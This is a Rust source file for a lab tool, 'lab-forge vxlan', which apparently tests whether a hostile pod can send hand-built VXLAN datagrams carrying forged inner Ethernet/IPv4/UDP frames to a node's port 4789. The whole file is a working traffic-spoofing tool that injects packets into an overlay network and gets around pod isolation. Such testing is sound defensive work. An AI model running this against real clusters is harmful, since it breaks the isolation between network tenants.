//! Sends hand-built VXLAN datagrams from an ordinary UDP socket, as a
//! hostile pod can: `lab-forge vxlan NODE_IP VNI INNER_SRC INNER_DST DPORT
//! [COUNT]` sends COUNT (default 20) datagrams to NODE_IP:4789, each carrying
//! an Ethernet/IPv4/UDP frame from INNER_SRC to INNER_DST:DPORT under VNI.

use std::net::{Ipv4Addr, UdpSocket};
use std::process::ExitCode;

use lab::forge::{udp_frame, vxlan_payload};

fn run(args: &[String]) -> Result<(), String> {
    let [mode, node, vni, src, dst, dport, rest @ ..] = args else {
        return Err("usage: lab-forge vxlan NODE_IP VNI INNER_SRC INNER_DST DPORT [COUNT]".into());
    };
    if mode != "vxlan" {
        return Err(format!("unknown mode {mode}"));
    }
    let ip = |s: &str| s.parse::<Ipv4Addr>().map_err(|e| format!("{s}: {e}"));
    let num = |s: &str| s.parse::<u32>().map_err(|e| format!("{s}: {e}"));
    let (node, src, dst) = (ip(node)?, ip(src)?, ip(dst)?);
    let (vni, dport) = (num(vni)?, u16::try_from(num(dport)?).map_err(|e| e.to_string())?);
    let count = rest.first().map(|c| num(c)).transpose()?.unwrap_or(20);
    let sock = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    let datagram = vxlan_payload(vni, &udp_frame(src, dst, 40000, dport, b"forged"));
    for _ in 0..count {
        sock.send_to(&datagram, (node, 4789)).map_err(|e| format!("send to {node}:4789: {e}"))?;
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    Ok(())
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("lab-forge: {e}");
            ExitCode::from(2)
        }
    }
}
